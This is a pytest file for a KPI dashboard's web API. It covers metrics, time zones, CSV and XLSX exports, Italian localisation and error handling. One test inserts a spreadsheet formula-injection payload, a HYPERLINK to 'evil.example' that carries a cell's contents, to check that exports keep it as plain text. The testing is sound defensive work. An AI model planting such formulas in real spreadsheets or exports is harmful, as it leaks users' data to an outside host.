"""The KPI page and its JSON twin, records and CSV, on the hand-counted company."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook


def kpi(client, url: str) -> dict:
    response = client.get(url)
    assert response.status_code == 200, response.text
    return response.json()


def test_definition_card_with_source_freshness(company):
    data = kpi(company["admin"], "/api/kpi/new_leads?period=2026-03")
    assert data["kpi"]["name"] == "New leads"
    assert data["kpi"]["sources"] == ["leads"]
    # newest lead: L4 at 2026-03-31 22:30Z, which is 1 April in Rome
    assert data["freshness"] == {"leads": "2026-04-01"}
    assert data["kpi"]["frequency"] == "weekly"


def test_source_freshness_is_read_within_the_users_scope(company):
    # Bruno (r2): his newest lead is L6 at 2026-03-11 09:00Z, not the company's L4 (r1's,
    # 1 April in Rome); the manager of North (r1, r3) has L4; the viewer reads the
    # company-wide dashboards, so the company's newest (issue 15: not the company's date
    # for a rep or a manager).
    for user, newest in (("other_rep", "2026-03-11"), ("manager", "2026-04-01")):
        data = kpi(company[user], "/api/kpi/new_leads?period=2026-03")
        assert data["freshness"] == {"leads": newest}, user
    assert kpi(company["viewer"], "/api/kpi/new_leads?period=2026-03")["freshness"] == {
        "leads": "2026-04-01"
    }


def test_comparison_trend_and_breakdown(company):
    data = kpi(company["admin"], "/api/kpi/new_leads?period=2026-03&by=rep")
    compare = data["compare"]
    assert (compare["current"]["value"], compare["previous"]["value"]) == (6, 1)
    assert compare["last_year"]["period"] == "2025-03"
    assert [p["period"] for p in data["trend"]][-1] == "2026-03"
    assert len(data["trend"]) == 12
    rows = {r["key"]: (r["label"], r["value"]) for r in data["breakdown"]["rows"]}
    # r1: L1 L2 L3 = 3; r2: L5 L6 = 2; r3: L7 = 1
    assert rows == {"r1": ("Anna Rossi", 3), "r2": ("Bruno Bianchi", 2), "r3": ("Carla Verdi", 1)}


def test_months_not_begun_are_no_value_not_zero(company):
    # Q2 asked on 15 April, month by month: April has L4 (1 April in Rome), May and June
    # have not begun — no value (a gap in the chart), where they showed 0 leads.
    trend = kpi(company["admin"], "/api/kpi/new_leads?period=2026-Q2&grain=month")["trend"]
    assert [(p["period"], p["value"], p.get("not_begun", False)) for p in trend] == [
        ("2026-04", 1, False),
        ("2026-05", None, True),
        ("2026-06", None, True),
    ]


def test_breakdown_defaults_to_the_first_dimension_and_rejects_others(company):
    data = kpi(company["admin"], "/api/kpi/new_leads?period=2026-03")
    assert data["breakdown"]["dimension"] == "rep"
    bad = company["admin"].get("/api/kpi/new_leads?by=priority")
    assert bad.status_code == 400
    assert "priority" in bad.json()["detail"]


def test_records_are_paged_and_sorted(company):
    first = kpi(
        company["admin"], "/api/kpi/new_leads?period=2026-03&limit=4&sort=created_at&desc=true"
    )["records"]
    assert first["total"] == 6
    ids = [row[0] for row in first["rows"]]
    # by created_at, newest first: L2 (20 Mar), L7 (12 Mar), L6 (11 Mar), L5 (10 Mar)
    assert ids == ["L2", "L7", "L6", "L5"]
    second = kpi(
        company["admin"],
        "/api/kpi/new_leads?period=2026-03&limit=4&offset=4&sort=created_at&desc=true",
    )["records"]
    assert [row[0] for row in second["rows"]] == ["L1", "L3"]
    bad = company["admin"].get("/api/kpi/new_leads?sort=no_such_column")
    assert bad.status_code == 400


def test_records_show_times_in_the_company_time_zone(company):
    records = kpi(company["admin"], "/api/kpi/new_leads?period=2026-03&sort=lead_id")["records"]
    created = dict(
        zip([r[0] for r in records["rows"]], [r[1] for r in records["rows"]], strict=True)
    )
    assert created["L3"] == "2026-03-01 00:30"  # 2026-02-28 23:30 UTC is 00:30 in Rome (CET)
    assert "L4" not in created  # 2026-03-31 22:30 UTC is already April in Rome (CEST)


def test_record_dates_are_not_shifted_by_the_time_zone(company):
    records = kpi(company["admin"], "/api/kpi/new_opportunities?period=2026-03")["records"]
    row = dict(zip(records["columns"], records["rows"][0], strict=True))
    assert row["opportunity_id"] == "o1"
    assert row["expected_close_date"] == "2026-03-31"  # a calendar date, as stored
    assert row["created_at"] == "2026-03-10 11:00"  # 10:00 UTC is 11:00 in Rome (CET)


def test_csv_export_holds_every_record(company):
    response = company["admin"].get("/api/kpi/new_leads/records.csv?period=2026-03")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="new_leads_2026-03.csv"' in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    # Headers are words (the JSON twin keeps the column names); each id has its name beside.
    assert sorted(r["Lead"] for r in rows) == ["L1", "L2", "L3", "L5", "L6", "L7"]
    assert {(r["Owner (id)"], r["Owner"]) for r in rows} == {
        ("r1", "Anna Rossi"),
        ("r2", "Bruno Bianchi"),
        ("r3", "Carla Verdi"),
    }


def test_xlsx_export_has_the_csv_records_as_typed_cells(company):
    """The XLSX holds the CSV's records, cell by cell, with numbers as numbers and times as
    date cells in the company's zone (o1 created 10:00 UTC = 11:00 in Rome)."""
    url = "/api/kpi/new_opportunities/records.{}?period=2026-03"
    response = company["admin"].get(url.format("xlsx"))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert 'filename="new_opportunities_2026-03.xlsx"' in response.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    rows = sheet.iter_rows(min_row=2)
    cells = {row[0].value: dict(zip(header, row, strict=True)) for row in rows}
    table = list(csv.reader(io.StringIO(company["admin"].get(url.format("csv")).text)))
    assert header == table[0]  # the same columns, headed in words
    assert sorted(cells) == sorted(r[0] for r in table[1:]) == ["o1", "o2"]
    o1 = cells["o1"]
    assert o1["Amount"].value == 10_000 and o1["Amount"].data_type == "n"
    assert o1["Owner"].value == "Anna Rossi"
    assert o1["Created"].value == datetime(2026, 3, 10, 11, 0) and o1["Created"].is_date
    # A calendar date stays the stored day (no zone shift).
    assert o1["Expected close"].value == datetime(2026, 3, 31) and o1["Expected close"].is_date
    assert cells["o2"]["Closed"].value is None  # still open: an empty cell, not "NaT"


def test_italian_record_exports_say_statuses_in_italian(company_app):
    """An Italian reader's records: headers and codes in Italian in the CSV and the XLSX
    alike (o1 is won, o2 open: tests/web/data.py), ids and names exact."""
    from tests.web.conftest import login

    client = login(company_app, "admin")
    client.post("/language", data={"language": "it"})
    try:
        url = "/api/kpi/new_opportunities/records.{}?period=2026-03"
        text = client.get(url.format("csv")).content.decode("utf-8-sig")
        rows = {r["Trattativa"]: r for r in csv.DictReader(io.StringIO(text), delimiter=";")}
        assert (rows["o1"]["Stato"], rows["o2"]["Stato"]) == ("Vinta", "Aperta")
        sheet = load_workbook(io.BytesIO(client.get(url.format("xlsx")).content)).active
        header = [c.value for c in sheet[1]]
        statuses = {r[0].value: r[header.index("Stato")].value for r in sheet.iter_rows(min_row=2)}
        assert statuses == {"o1": "Vinta", "o2": "Aperta"}
    finally:
        client.post("/language", data={"language": "en"})


def test_stages_read_in_pipeline_order_in_the_breakdown_and_the_filter(app, clients, web_warehouse):
    """The stage history says deals go discovery → proposal → negotiation → won; the
    breakdown and the stage picker follow it, not the value (won 10,000; negotiation
    9,000; proposal 5,000 USD = 4,500 EUR; discovery 1,000) nor the alphabet."""
    from tests.web.data import OPPORTUNITIES, frame, load_company, ts

    load_company(web_warehouse)
    path = ("discovery", "proposal", "negotiation", "won")
    deals = [
        dict(OPPORTUNITIES[1], opportunity_id="o3", stage="discovery", amount=1_000.0),
        dict(OPPORTUNITIES[1], opportunity_id="o4", stage="negotiation", amount=9_000.0),
    ]
    for deal in deals:
        deal["currency"] = "EUR"
    reached = {"o3": 1, "o2": 2, "o4": 3, "o1": 4}  # how far along `path` each deal went
    history = [
        {"opportunity_id": deal, "stage": stage, "entered_at": ts(f"2026-03-1{step} 10:00")}
        for deal, steps in reached.items()
        for step, stage in enumerate(path[:steps])
    ]
    web_warehouse.load(
        {
            "opportunities": frame("opportunities", [*OPPORTUNITIES, *deals]),
            "stage_history": frame("stage_history", history),
        }
    )
    data = kpi(clients["admin"], "/api/kpi/avg_opportunity_value?period=2026-03&by=stage")
    assert [r["key"] for r in data["breakdown"]["rows"]] == list(path)
    assert [v for v, _ in data["pickers"]["stage"]] == list(path)


def test_record_exports_are_one_route_with_a_format(company_app, company):
    """`records.csv` and `records.xlsx` are one operation in the OpenAPI with the format as
    an enum; any other format is a 422 naming the choices, not a 404 or a 500."""
    paths = company_app.openapi()["paths"]
    exports = [p for p in paths if "/records" in p]
    assert exports == ["/api/kpi/{kpi_id}/records.{format}"]
    (format_,) = [p for p in paths[exports[0]]["get"]["parameters"] if p["name"] == "format"]
    assert format_["schema"]["enum"] == ["csv", "xlsx"]
    response = company["admin"].get("/api/kpi/new_leads/records.pdf?period=2026-03")
    assert response.status_code == 422 and "csv" in response.text


def test_xlsx_export_never_writes_a_formula(app, clients, web_warehouse):
    from tests.web.data import ACCOUNTS, frame, load_company

    load_company(web_warehouse)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Alfa")'
    web_warehouse.load({"accounts": frame("accounts", [dict(ACCOUNTS[0], name=evil)])})
    response = clients["admin"].get("/api/kpi/new_opportunities/records.xlsx?period=2026-03")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    (o1,) = [r for r in sheet.iter_rows(min_row=2) if r[0].value == "o1"]
    account = o1[header.index("Account")]
    assert account.value == evil and account.data_type == "s"  # text, exactly as imported


def test_unknown_kpi_is_404_on_page_and_api(company):
    assert company["admin"].get("/api/kpi/no_such_kpi").status_code == 404
    page = company["admin"].get("/kpi/no_such_kpi")
    assert page.status_code == 404
    assert "Not found" in page.text


def test_kpi_page_renders_in_italian_with_italian_numbers(company_app):
    from tests.web.conftest import login, with_parts

    client = login(company_app, "admin")
    client.post("/language", data={"language": "it"})
    try:
        page = with_parts(client, "/kpi/avg_opportunity_value?period=2026-03")
        assert "Valore medio delle opportunità" in page
        assert "7.250\xa0€" in page  # (10 000 + 4 500) / 2 in Italian, whole euros
        assert 'src="/static/plotly.min.js"' in page
        assert 'src="/static/plotly-locales/it.js"' in page  # month names, modebar
    finally:
        client.post("/language", data={"language": "en"})


def test_list_of_kpis(company):
    ids = [k["id"] for k in kpi(company["admin"], "/api/kpis")]
    assert "new_leads" in ids and "share_of_voice" in ids


@pytest.mark.parametrize("path", ["/api/kpi/new_leads", "/api/kpi/new_leads/records.csv"])
def test_kpi_endpoints_need_a_login(company_app, path):
    from fastapi.testclient import TestClient

    assert TestClient(company_app).get(path).status_code == 401


def load_a_deal_without_rate(web_warehouse) -> None:
    """The hand-counted company plus a March deal in CHF, which has no rate at all, and a
    March forecast (without any forecast, forecast accuracy compares nothing and needs no
    rate)."""
    from tests.web.data import OPPORTUNITIES, frame, load_company

    load_company(web_warehouse)
    swiss = dict(OPPORTUNITIES[0], opportunity_id="o3", currency="CHF")
    forecast = {
        "rep_id": "r1",
        "period": "2026-03",
        "amount": 5000.0,
        "submitted_at": datetime(2026, 2, 25, 9, 0),
    }
    web_warehouse.load(
        {
            "opportunities": frame("opportunities", [swiss]),
            "forecasts": frame("forecasts", [forecast]),
        }
    )


def test_an_engine_error_is_explained_not_a_500(app, clients, web_warehouse):
    load_a_deal_without_rate(web_warehouse)
    api = clients["admin"].get("/api/kpi/avg_opportunity_value?period=2026-03")
    assert api.status_code == 422
    assert "CHF" in api.json()["detail"]
    # The page shows at once; the part holding the numbers says what is missing.
    assert clients["admin"].get("/kpi/avg_opportunity_value?period=2026-03").status_code == 200
    part = clients["admin"].get("/kpi/avg_opportunity_value/numbers?part=main&period=2026-03")
    assert part.status_code == 422
    assert "CHF" in part.text


@pytest.mark.parametrize("kpi_id", ["roi", "campaign_revenue", "forecast_accuracy"])
def test_a_missing_rate_in_a_kpi_function_is_a_422_not_a_500(app, clients, web_warehouse, kpi_id):
    """KPI functions check rates on their own path (KpiScope), which raised an error the
    web did not map: a 500. Every engine error now answers 422 from one handler."""
    load_a_deal_without_rate(web_warehouse)
    api = clients["admin"].get(f"/api/kpi/{kpi_id}?period=2026-03")
    assert api.status_code == 422, api.text
    assert "no exchange rate for CHF" in api.json()["detail"]


def test_a_query_stopped_by_the_time_limit_is_a_504(app, clients, monkeypatch):
    """The timer itself is tested in tests/engine/test_concurrency.py; here, what the web
    answers when the engine reports it."""
    from cruscotto.engine import Engine, QueryTimeout

    def too_long(*args, **kwargs):
        raise QueryTimeout("the query took longer than 60 s and was stopped")

    monkeypatch.setattr(Engine, "values", too_long)
    api = clients["admin"].get("/api/kpi/new_leads?period=2026-03")
    assert api.status_code == 504, api.text
    assert "was stopped" in api.json()["detail"]
